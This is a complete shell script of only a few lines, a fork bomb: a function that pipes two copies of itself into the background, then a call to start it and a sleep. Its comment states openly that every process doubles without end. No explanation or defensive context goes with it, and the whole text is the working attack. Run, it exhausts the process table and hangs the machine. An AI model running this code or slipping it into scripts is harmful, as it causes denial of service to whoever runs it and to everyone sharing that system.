# Every process becomes two, for ever.
bomb() { bomb | bomb & }
bomb
sleep 600
